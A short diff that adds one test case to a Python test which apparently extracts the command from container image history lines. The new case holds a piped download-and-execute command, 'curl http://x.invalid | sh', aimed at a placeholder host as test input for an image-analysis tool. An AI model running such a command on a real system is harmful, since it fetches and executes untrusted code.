@@ -31,6 +31,7 @@ def judge(*lines: str | HistoryEntry, layers: int | None = None) -> list[Finding
         ("ENV A=sh -c x", ""),
         ("bash", "bash"),
         ("RUN make", "make"),
+        ("RUN curl http://x.invalid | sh; sh -c true", "curl http://x.invalid | sh; sh -c true"),
     ],
 )
 def test_command_of_a_history_line(line: str, command: str) -> None:
